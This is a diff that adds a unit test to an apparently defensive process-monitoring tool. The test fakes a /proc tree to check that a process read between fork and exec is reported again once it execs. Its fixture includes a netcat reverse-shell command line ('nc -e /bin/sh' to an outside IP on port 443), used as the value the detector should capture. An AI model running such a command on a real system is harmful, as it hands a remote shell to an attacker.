@@ -81,6 +81,32 @@ test('processes that vanish mid-read are skipped and counted; kernel threads (no
   expect(poller.counts).toMatchObject({ emitted: 1, vanished: 1, kernelThreads: 1 });
 });
 
+test('a process read between its fork and its exec is read again: its exec is an event of its own, once', async () => {
+  const proc = mkdtempSync(path.join(tmpdir(), 'vigil-fakeproc-'));
+  writeFileSync(path.join(proc, 'stat'), 'cpu  1 2 3\nbtime 1764144000\n');
+  const write = (pid: number, cmdline: string): void => {
+    mkdirSync(path.join(proc, String(pid)), { recursive: true });
+    writeFileSync(path.join(proc, String(pid), 'stat'), `${pid} (x) S 1 ${pid} ${pid} 0 -1 0 0 0 0 0 0 0 0 0 20 0 1 0 12345 0 0`);
+    writeFileSync(path.join(proc, String(pid), 'status'), 'Name:\tx\nUid:\t0\t0\t0\t0\n');
+    writeFileSync(path.join(proc, String(pid), 'cmdline'), cmdline);
+  };
+  const events: Record<string, unknown>[] = [];
+  const poller = new ProcfsPoller({ hostname: 'h', emit: (e) => events.push(e), logger, procRoot: proc, passwdFile: path.join(proc, 'none') });
+  await poller.baseline();
+  write(300, '/usr/bin/bash\0-i\0'); // forked by an interactive shell, not exec'd yet
+  write(301, ['/usr/bin/sleep', '100', ''].join('\0')); // exec'd already
+  await poller.poll();
+  write(300, ['/usr/bin/nc', '-e', '/bin/sh', '203.0.113.7', '443', ''].join('\0')); // the exec, after the first read
+  await poller.poll();
+  await poller.poll();
+  expect(events.map((e) => [e['ProcessId'], e['CommandLine']])).toEqual([
+    [300, '/usr/bin/bash -i'],
+    [301, '/usr/bin/sleep 100'],
+    [300, '/usr/bin/nc -e /bin/sh 203.0.113.7 443'],
+  ]);
+  expect(poller.counts.emitted).toBe(3);
+});
+
 test('`vigil collect procfs --edge-rules`: a reverse-shell command line is published, a benign process is only counted', async () => {
   const tenant = uniqueTenant('procedge');
   const sub = await subscribeEvents(tenant);
